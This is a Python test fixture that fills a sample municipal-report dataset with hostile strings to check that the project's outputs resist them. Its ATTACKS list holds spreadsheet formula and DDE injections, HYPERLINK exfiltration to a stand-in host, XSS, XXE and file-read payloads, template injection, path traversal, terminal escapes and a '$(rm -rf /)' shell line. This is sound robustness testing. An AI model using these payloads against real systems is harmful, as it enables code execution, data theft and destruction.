"""The sample project with an attack or an accident in every text: what a city may hand in.

``make_hostile`` changes a copy of ``tests/sample``, so that there is no second sample to keep.
Codes, years and figures stay, signs that no typeface has stay out of what somebody writes for the
report, where they are refused, and every name is changed wherever it stands, so
the chain still runs; all other texts become what a spreadsheet, a browser, a typesetter, a
template, a shell or a reader's eye could take for something else than text.
"""

import csv
from collections.abc import Callable
from itertools import cycle
from pathlib import Path
from typing import Any

import yaml

from rapor.ground.paths import Home
from rapor.ground.places import Address
from rapor.ground.shape import Text, Words, as_printed

ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://attack.invalid/?"&A1,"klik")',
    "=cmd|'/C calc'!A0",
    '+62-8=DDE("cmd";"/C calc")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>window.pwned=1;alert(1)</script>",
    "\"'><img src=x onerror=\"window.pwned=1;alert(1)\">",
    "</style></title><svg/onload=window.pwned=1>",
    "<iframe src=http://attack.invalid/></iframe><link rel=stylesheet href=//attack.invalid>",
    "javascript:window.pwned=1",
    "]]><!--&lt;&#60;&xxe;&#0; <!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    '#panic("x") #read("/etc/passwd") $x^2$ *tebal* _miring_ <label> @ref `raw` // /* */ \\u{1F}',
    '{ HYPERLINK "http://attack.invalid" } { INCLUDETEXT "C:\\\\secret.txt" } MERGEFIELD',
    "\\input{/etc/passwd} \\textbf{x} $\\frac{1}{2}$ %komentar ~ ^ & # _",
    "**tebal** [klik](javascript:alert(1)) ![x](http://attack.invalid/x.png) | sel | # judul",
    "{{ 7*7 }} {% for x in y %} {# #} ${7*7} <%= 7*7 %>",
    "{0} {nilai} {nilai!r:>10} %s %n %(x)s %d {",
    "\"kutip\" 'tunggal' `miring` «ganda» „bawah” ;--",
    "../../etc/passwd C:\\Windows\\con.txt \\\\server\\share file:///etc/passwd %00",
    "\u202edekcah\u202c \u2066isolat\u2069 \u200f\u0645\u0631\u062d\u0628\u0627",
    "nol\u200b\u200d\ufeff\u00ad lebar",
    "\U0001f3db\ufe0f \U0001f469\u200d\U0001f4bb \u4e2d\u6587 \u0939\u093f\u0928\u094d",
    "Z\u0351\u036b\u0343\u036aa\u0334\u030b\u0310l\u0338\u033fg\u0336\u030ao e\u0301",
    "bel\x07 hapus\x7f unit\x1f tegak\x0b halaman\x0c",
    "\x1b]0;pwned\x07\x1b[31mmerah\x1b[0m \x9b2J",
    "' OR 1=1; DROP TABLE kota; $(rm -rf /) `id` && exit | cat",
)  # fmt: skip
LONG = ("panjang" * 715)[:5000]
"""One word of five thousand letters."""
CITY, OTHER = "kota-contoh", "kota-uji"
HOSTILE_REPORTS = (
    (CITY, 2021, "id", "annual"),
    (CITY, 2022, "en", "semester_1"),
    (OTHER, 2022, "id", "annual"),
)
"""City, year, language and period of the reports that the tests have made of it."""

_FREE = ("activity", "outcome", "text")
_NAMED = ("label", "goal", "area", "agencies")


class Attacks:
    """Gives every text the next attack, and remembers what each name has become."""

    def __init__(self) -> None:
        self._next = cycle(ATTACKS)
        self.renamed: dict[str, str] = {}

    def text(self) -> str:
        """The next attack alone."""
        return next(self._next)

    def printed(self) -> str:
        """The next attack that has letters, as what is copied from a document must have."""
        return next(text for text in self._next if as_printed().holds(text))

    def written(self) -> str:
        """The next attack that may stand where somebody writes for the report: others are told."""
        return next(text for text in self._next if Words().holds(text))

    def name(self, printed: str, code: str) -> str:
        """The next attack as a name that no other has; what ``printed`` is from now on."""
        return self.renamed.setdefault(printed, f"{next(self._next)} {code}")

    def cell(self, printed: str) -> str:
        """A printed cell with every known name in it changed, the longest first."""
        for name in sorted(self.renamed, key=len, reverse=True):
            if name in printed:
                return self.renamed[name].join(self.cell(part) for part in printed.split(name))
        return printed


def make_hostile(home: Home) -> Home:
    """Put an attack into every text of a copy of the sample; returns it."""
    attacks = Attacks()
    reference = home.reference
    _rows(reference / "labels.csv", lambda row: {
        "label": attacks.name(row["label"], row["indicator"]), "note": attacks.printed(),
    })  # fmt: skip
    for city in (CITY, OTHER):
        _registers(home.raw(city), attacks)
    for name in ("goals", "areas", "indicators"):
        _yaml(reference / f"{name}.yaml", lambda content: _entries(content, attacks))
    for name in ("achievement", "trajectory"):
        _yaml(reference / f"{name}.yaml", lambda content: _statements(content, attacks))
    _yaml(reference / "instruments" / "2020.yaml", lambda content: _components(content, attacks))
    for city in (CITY, OTHER):
        _city(home.raw(city), attacks)
    _notes(home.raw(CITY) / "notes")
    _yaml(home.params, lambda content: content.update(languages=["id", "en"]))
    return home


def _registers(folder: Path, attacks: Attacks) -> None:
    """What a city calls itself and its agencies."""
    _rows(folder / "agencies.csv", lambda row: {
        "name": attacks.renamed.setdefault(row["name"], f"{attacks.text()} {row['agency']}"),
        "spelling": attacks.name(row["spelling"], f"singkatan {row['agency']}"),
    })  # fmt: skip
    _yaml(folder / "city.yaml", lambda content: content.update(
        name=f"{attacks.written()} {content['name']}", province=attacks.written(),
    ))  # fmt: skip


def _entries(content: dict[str, Any], attacks: Attacks) -> None:
    """Names of the catalogue; ``spellings`` keep what tables print, changed in the same way."""
    for code, entry in content.items():
        entry["name"] = attacks.name(entry["name"], code)
        entry["short"] = f"{attacks.text()} {code}"
        if "owner" in entry:
            entry["owner"], entry["note"] = attacks.printed(), attacks.printed()
        if "spellings" in entry:
            entry["spellings"] = [attacks.name(spelling, code) for spelling in entry["spellings"]]


def _statements(content: dict[str, Any], attacks: Attacks) -> None:
    for entry in content.values():
        entry |= {name: attacks.written() for name in ("statement", "statement_en", "reference")}
    if "categories" in content:
        content["categories"]["name"] = attacks.written()
        for band in content["categories"]["bands"]:
            band["name"] = f"{attacks.written()} {band['name']}"


def _components(content: dict[str, Any], attacks: Attacks) -> None:
    content["reference"] = attacks.written()
    for part in content["components"]:
        part["label"] = attacks.name(part["label"], part["path"])
        part["spellings"] = [
            attacks.name(spelling, "ejaan") for spelling in part.get("spellings", ())
        ]


def _city(folder: Path, attacks: Attacks) -> None:
    headers: dict[tuple[str, str], str] = {}
    _yaml(folder / "tables.yaml", lambda content: _tables(content, folder, headers, attacks))
    _yaml(folder / "sources.yaml", lambda content: _sources(content, attacks))
    _yaml(folder / "corrections.yaml", lambda content: _decisions(content, headers, attacks))
    _rows(folder / "realisation.csv", lambda _: _result(attacks))


def _result(attacks: Attacks) -> dict[str, str]:
    """What is told of a result; a place that is in no web may be any words that can be seen."""
    cells = {name: attacks.printed() for name in ("assessor", "publisher", "address", "note")}
    cells["address"] = _place(cells["address"])
    return cells if Text().holds(cells["note"]) else cells | {"note": "Catatan"}


def _place(attack: str) -> str:
    return attack if Address(elsewhere=True).holds(attack) else "Lampiran"


def _tables(
    content: dict[str, Any], folder: Path, headers: dict[tuple[str, str], str], attacks: Attacks
) -> None:
    for table, spec in content["tables"].items():
        spec["title"] = attacks.printed()
        changed = {name: f"{name} {attacks.text().replace(';', ',')}" for name in spec["columns"]}
        headers |= {(table, old): new for old, new in changed.items()}
        roles = {changed[name]: column["role"] for name, column in spec["columns"].items()}
        spec["columns"] = {changed[name]: column for name, column in spec["columns"].items()}

        def cells(
            row: dict[str, str],
            changed: dict[str, str] = changed,
            roles: dict[str, str] = roles,
        ) -> dict[str, str]:
            renamed = {changed.get(name, name): cell for name, cell in row.items()}
            row.clear()
            return {
                name: attacks.text()
                if cell and roles.get(name) in _FREE and row.get("mark") != "group"
                else attacks.cell(cell)
                if name in roles and (roles[name] in _NAMED or renamed["mark"] == "group")
                else cell
                for name, cell in renamed.items()
            }

        _rows(folder / "tables" / f"{table}.csv", cells)


def _sources(content: dict[str, Any], attacks: Attacks) -> None:
    for entry in content.values():
        for name in sorted(set(entry) - {"kind", "published", "date", "sha256"}):
            text = attacks.printed()
            entry[name] = _place(text) if name == "address" else text


def _decisions(
    content: list[dict[str, Any]], headers: dict[tuple[str, str], str], attacks: Attacks
) -> None:
    for entry in content:
        entry["decision"] = f"{attacks.text()} {entry['decision']}"
        entry["reason"], entry["evidence"], entry["decided_by"] = LONG, attacks.written(), LONG
        for place, finding in enumerate(entry["findings"]):
            rule, table, row, column = finding.split(":", 3)
            entry["findings"][place] = f"{rule}:{table}:{row}:{headers[table, column]}"
        entry["printed"] = {
            f"{table}:{row}:{headers[table, column]}": text
            for ref, text in entry["printed"].items()
            for table, row, column in [ref.split(":", 2)]
        }


def _notes(folder: Path) -> None:
    """The consultant's voice: markup and references are refused there, all else is text."""
    refused = "<`["
    lines = [
        attack
        for attack in ATTACKS
        if Words(letters=0).holds(attack)
        and not any(sign in attack for sign in refused)
        and "**" not in attack
    ]
    text = "\n\n".join(line.replace("{", "{{").replace("}", "}}") for line in [*lines, LONG])
    folder.mkdir()
    for name in ("2021.md", "2021.en.md", "2022-semester-1.md"):
        (folder / name).write_text(f"## summary\n\n. {text}\n", encoding="utf-8")


def _yaml(path: Path, change: Callable[[Any], object]) -> None:
    content = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(content)
    path.write_text(yaml.safe_dump(content, sort_keys=False), encoding="utf-8")


def _rows(path: Path, change: Callable[[dict[str, str]], dict[str, str]]) -> None:
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    changed = [row | change(row) for row in rows]
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(changed[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(changed)
